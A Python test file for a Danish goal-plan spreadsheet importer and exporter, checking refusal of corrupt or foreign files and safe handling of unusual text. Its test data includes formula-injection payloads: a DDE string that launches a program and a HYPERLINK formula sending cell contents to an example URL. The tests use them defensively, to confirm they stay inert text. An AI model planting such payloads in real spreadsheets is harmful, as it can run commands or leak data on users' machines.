"""The bad-input corpus against the målplanskabelon importer (`exports.template_import`), and
formula-looking text against our own .xlsx export: damaged or foreign files are refused with a
Danish message and the database is unchanged; unusual text arrives exactly as typed; text that
looks like a formula never becomes a live formula in a workbook we write."""

from __future__ import annotations

import io
import zipfile
from datetime import date
from pathlib import Path

import pytest
from openpyxl import Workbook, load_workbook

from exports import template_import
from models.db import open_database
from models.errors import UdviklingsdagError
from models.store import Store

from ._util import db_digest

CORPUS = Path(__file__).resolve().parent / "corpus"

TEGN_TEXT = "Børnene siger hej til en voksen hver morgen."


@pytest.fixture(scope="module")
def filled_template(tmp_path_factory: pytest.TempPathFactory) -> bytes:
    """The app's own målplanskabelon for the corpus's plan (one mål, one tegn), as bytes."""
    from exports.bundle import import_bundles
    from exports.xlsx import maalplan_xlsx
    from models.maalplan_view import load_maalplan
    from models.queries import maalplaner_overview

    db = open_database(str(tmp_path_factory.mktemp("skabelon") / "s.db"))
    try:
        import_bundles(db, [CORPUS / "overlevering-gyldig.udviklingsdag.json"])
        (plan,) = maalplaner_overview(db)
        return maalplan_xlsx(load_maalplan(db, plan.id), when=date(2027, 1, 14))
    finally:
        db.close()


def _sheet(base: bytes, tegn: list[str], *, extra_rows: int = 0) -> Workbook:
    """The filled template with its tegn table holding `tegn` (and `extra_rows` more)."""
    wb = load_workbook(io.BytesIO(base))
    cell = next(
        c for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.value == TEGN_TEXT
    )
    ws = cell.parent
    first = [c.value for c in ws[cell.row]]
    texts = [*tegn, *(f"Tegn nummer {n}" for n in range(extra_rows))]
    for k, text in enumerate(texts):
        values = list(first)
        values[cell.column - 1] = text
        values[cell.column - 2] = f"1.{k + 1}"  # Tegn nr
        for j, v in enumerate(values, start=1):
            ws.cell(cell.row + k, j).value = v
            if isinstance(v, str):
                ws.cell(cell.row + k, j).data_type = "s"
    return wb


def _save(wb: Workbook, path: Path) -> Path:
    wb.save(path)
    return path


def _import(db_path: Path, path: Path, **kw: object):  # type: ignore[no-untyped-def]
    db = open_database(str(db_path))
    try:
        return template_import.import_workbook(Store(db), path, **kw)
    finally:
        db.close()


def _refused(db_path: Path, path: Path) -> str:
    """The file cannot be read at all: a Danish error, nothing changed."""
    before = db_digest(db_path)
    with pytest.raises(UdviklingsdagError) as info:
        _import(db_path, path)
    assert db_digest(db_path) == before
    message = str(info.value)
    assert "Traceback" not in message
    return message


def _tegn_texts(db_path: Path) -> list[str]:
    from models.queries import live_rows

    db = open_database(str(db_path))
    try:
        return [r["tekst"] for r in live_rows(db, "tegn")]
    finally:
        db.close()


def test_plain_sheet_imports(filled_template: bytes, demo_db: Path, tmp_path: Path) -> None:
    """The hand-made sheet the other cases start from is itself importable."""
    report = _import(demo_db, _save(_sheet(filled_template, [TEGN_TEXT]), tmp_path / "plan.xlsx"))
    assert report.imported, report.summary()
    assert TEGN_TEXT in _tegn_texts(demo_db)


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("billede.xlsx", (CORPUS / "billede.png").read_bytes()),
        ("overlevering.xlsx", (CORPUS / "overlevering-gyldig.udviklingsdag.json").read_bytes()),
        ("tom.xlsx", b""),
        ("tekst.xlsx", "mål;tegn\nAlle børn;Hilser\n".encode()),
        ("gammel.xls", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504),
    ],
)
def test_wrong_format_is_refused(name: str, content: bytes, demo_db: Path, tmp_path: Path) -> None:
    path = tmp_path / name
    path.write_bytes(content)
    message = _refused(demo_db, path)
    assert "kan ikke læses" in message or "gamle Excel-format" in message


def test_truncated_workbook_is_refused(
    filled_template: bytes, demo_db: Path, tmp_path: Path
) -> None:
    good = _save(_sheet(filled_template, [TEGN_TEXT]), tmp_path / "hel.xlsx").read_bytes()
    path = tmp_path / "afkortet.xlsx"
    path.write_bytes(good[: len(good) * 3 // 5])
    assert "kan ikke læses" in _refused(demo_db, path)


def _rewrite_member(src: bytes, member_suffix: str, change) -> bytes:  # type: ignore[no-untyped-def]
    """A copy of an .xlsx (zip) with one member's bytes changed, still a valid zip."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(src)) as zin, zipfile.ZipFile(out, "w") as zout:
        for item in zin.infolist():
            data = zin.read(item)
            if item.filename.endswith(member_suffix):
                data = change(data)
            zout.writestr(item, data)
    return out.getvalue()


def test_flipped_bytes_in_compressed_data_are_refused(
    filled_template: bytes, demo_db: Path, tmp_path: Path
) -> None:
    good = _save(_sheet(filled_template, [TEGN_TEXT] * 30), tmp_path / "hel.xlsx").read_bytes()
    with zipfile.ZipFile(io.BytesIO(good)) as z:
        info = z.getinfo("xl/worksheets/sheet1.xml")
    start = info.header_offset + 30 + len(info.filename) + len(info.extra)
    data = bytearray(good)
    for i in range(start + 10, start + info.compress_size - 10, 13):
        data[i] ^= 0x5A
    path = tmp_path / "vendte-bytes.xlsx"
    path.write_bytes(bytes(data))
    assert "kan ikke læses" in _refused(demo_db, path)


def test_broken_xml_is_refused(filled_template: bytes, demo_db: Path, tmp_path: Path) -> None:
    """A zip that is fine around a sheet that is not XML (a control character reference is
    illegal in XML 1.0, so this is also how a NUL or BEL typed into a cell looks)."""
    good = _save(_sheet(filled_template, [TEGN_TEXT]), tmp_path / "hel.xlsx").read_bytes()
    bad = _rewrite_member(
        good,
        "sharedStrings.xml",
        lambda d: d.replace("Børnene".encode(), b"B&#x0;rn&#x7;ene\x1b[31m"),
    )
    if bad == good:  # openpyxl wrote inline strings: damage the sheet instead
        bad = _rewrite_member(good, "sheet1.xml", lambda d: d.replace(b"<", b"<<", 3))
    path = tmp_path / "styretegn.xlsx"
    path.write_bytes(bad)
    assert "kan ikke læses" in _refused(demo_db, path)


UNUSUAL = [
    "[bold]fed[/bold] og [/] og [link=https://eksempel.dk]klik[/link] [red",
    "שלום עולם — مرحبا بالعالم — børn",
    "Vi fejrer det 🎉 med hele familien 👩‍👩‍👧 og 🇩🇰",
    '=HYPERLINK("https://eksempel.dk/?q="&A1,"Klik her")',
    "+SUM(1;2)",
    "@cmd|' /C calc'!A0",
]


def test_unusual_text_in_cells_arrives_exactly(
    filled_template: bytes, demo_db: Path, tmp_path: Path
) -> None:
    wb = _sheet(filled_template, UNUSUAL)  # typed as text cells, as Excel stores them
    report = _import(demo_db, _save(wb, tmp_path / "tekster.xlsx"))
    assert report.imported, report.summary()
    texts = _tegn_texts(demo_db)
    for text in UNUSUAL:
        assert text in texts


def test_live_formula_without_saved_result_imports_nothing(
    filled_template: bytes, demo_db: Path, tmp_path: Path
) -> None:
    """A real formula whose result Excel never saved: reported (in Danish, with the cell), and
    nothing is written."""
    wb = _sheet(filled_template, [TEGN_TEXT, "midlertidig"])
    cell = next(
        c for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.value == "midlertidig"
    )
    cell.value = '=HYPERLINK("https://eksempel.dk","Klik her")'
    cell.data_type = "f"
    path = _save(wb, tmp_path / "formel.xlsx")
    before = db_digest(demo_db)
    report = _import(demo_db, path)
    assert not report.imported
    assert any("formlen" in i.message for i in report.errors), report.summary()
    assert any(i.row == cell.row and i.column == cell.column_letter for i in report.errors)
    assert "Intet er indlæst" in report.summary()
    assert db_digest(demo_db) == before


def test_excel_error_values_in_a_text_column_import_nothing(
    filled_template: bytes, demo_db: Path, tmp_path: Path
) -> None:
    """An error value where a tegn's text stands (#NAME? typed as a value, and a formula whose
    saved result is #DIV/0!): reported in Danish, naming the error and the cell, and nothing is
    written (before, the text became «#NAME?»)."""
    wb = _sheet(filled_template, [TEGN_TEXT, "plads-et", "plads-to"])
    cells = {
        c.value: c
        for ws in wb.worksheets
        for row in ws.iter_rows()
        for c in row
        if c.value in ("plads-et", "plads-to")
    }
    error_value, formula = cells["plads-et"], cells["plads-to"]
    error_value.value = "#NAME?"  # openpyxl writes it as an error value (t="e")
    formula.value = "=1/0"
    path = _save(wb, tmp_path / "fejlvaerdi.xlsx")
    where = f'r="{formula.coordinate}"'.encode()
    path.write_bytes(
        _rewrite_member(
            path.read_bytes(),
            f"sheet{wb.worksheets.index(formula.parent) + 1}.xml",
            lambda xml: xml.replace(
                f"<c {where.decode()}><f>1/0</f><v></v></c>".encode(),
                f'<c {where.decode()} t="e"><f>1/0</f><v>#DIV/0!</v></c>'.encode(),
            ),
        )
    )
    assert b"#DIV/0!" in zipfile.ZipFile(path).read(
        f"xl/worksheets/sheet{wb.worksheets.index(formula.parent) + 1}.xml"
    )
    before = db_digest(demo_db)
    report = _import(demo_db, path)
    assert not report.imported
    assert db_digest(demo_db) == before
    found = {(i.row, i.column): i.message for i in report.errors}
    for cell, shown in ((error_value, "#NAME?"), (formula, "#DIV/0!")):
        message = found[(cell.row, cell.column_letter)]
        assert f"Excels fejlværdi «{shown}»" in message, report.summary()
    assert len(report.errors) == 2, report.summary()


@pytest.mark.parametrize(
    ("column", "value"),
    [("Tegn nr", "1." + "1" * 5000), ("Tegn nr", "9" * 5000), ("Tegn nr", "1.1234567890")],
)
def test_numbers_past_pythons_digit_limit_get_a_cell_message(
    filled_template: bytes, demo_db: Path, tmp_path: Path, column: str, value: str
) -> None:
    """A number cell with thousands of digits (Python refuses to read past 4,300) or a part
    past nine digits: the cell is reported as not a number, with the value quoted short; no
    «uventet fejl», nothing written."""
    wb = _sheet(filled_template, [TEGN_TEXT])
    cell = next(
        c for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.value == TEGN_TEXT
    )
    nr = cell.parent.cell(cell.row, cell.column - 1)
    nr.value = value
    nr.data_type = "s"
    path = _save(wb, tmp_path / "cifre.xlsx")
    before = db_digest(demo_db)
    report = _import(demo_db, path)
    assert not report.imported
    assert db_digest(demo_db) == before
    (issue,) = [i for i in report.errors if i.row == nr.row and i.column == nr.column_letter]
    assert "er ikke et nummer" in issue.message
    assert len(issue.text()) < 400


def test_huge_cell_is_reported_and_nothing_changes(
    filled_template: bytes, demo_db: Path, tmp_path: Path
) -> None:
    path = _save(
        _sheet(filled_template, [TEGN_TEXT, "Meget lang tekst. " * 2000]), tmp_path / "lang.xlsx"
    )
    before = db_digest(demo_db)
    report = _import(demo_db, path)
    assert not report.imported
    assert any("for lang" in i.message for i in report.errors)
    assert db_digest(demo_db) == before


def test_ten_thousand_rows(filled_template: bytes, demo_db: Path, tmp_path: Path) -> None:
    """A 10,000-row tegn table with a bad type in every other row: nothing is imported, every
    error is counted (so every row was read; the report lists the first ones), and the
    database is unchanged."""
    wb = _sheet(filled_template, [TEGN_TEXT], extra_rows=9_999)
    bad = 0
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for c in row:
                if c.value == "Kvalitativ" and c.row % 2 == 0:
                    c.value = "ikke en type"
                    bad += 1
    assert 4_000 < bad < 6_000
    path = _save(wb, tmp_path / "stor.xlsx")
    before = db_digest(demo_db)
    report = _import(demo_db, path)
    assert not report.imported
    assert len(report.errors) == bad
    assert len(report.as_dict()["fejl"]) == template_import.MAX_REPORTED
    assert "Intet er indlæst" in report.summary()
    assert db_digest(demo_db) == before


# --- our own .xlsx export never writes a live formula ---------------------------------------


@pytest.mark.parametrize(
    ("name", "text"),
    [
        ("tekst-formel", '=HYPERLINK("https://eksempel.dk/?q="&A1,"Klik her")'),
        ("tekst-formel-plus", "+SUM(1;2)"),
        ("tekst-formel-dde", "@cmd|' /C calc'!A0"),
    ],
)
def test_formula_looking_text_is_not_a_formula_in_our_export(
    name: str, text: str, tmp_path: Path
) -> None:
    from exports.bundle import import_bundles
    from exports.xlsx import maalplan_xlsx
    from models.maalplan_view import load_maalplan
    from models.queries import maalplaner_overview

    db = open_database(str(tmp_path / "f.db"))
    try:
        import_bundles(db, [CORPUS / f"{name}.udviklingsdag.json"])
        (plan,) = maalplaner_overview(db)
        data = maalplan_xlsx(load_maalplan(db, plan.id), when=date(2027, 1, 14))
    finally:
        db.close()
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        for member in z.namelist():
            if member.startswith("xl/worksheets/"):
                xml = z.read(member)
                assert b"<f>" not in xml and b"<f " not in xml, member
    wb = load_workbook(io.BytesIO(data))
    hits = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.value == text]
    assert hits, f"{text!r} mangler i eksporten"
    assert all(c.data_type == "s" for c in hits)
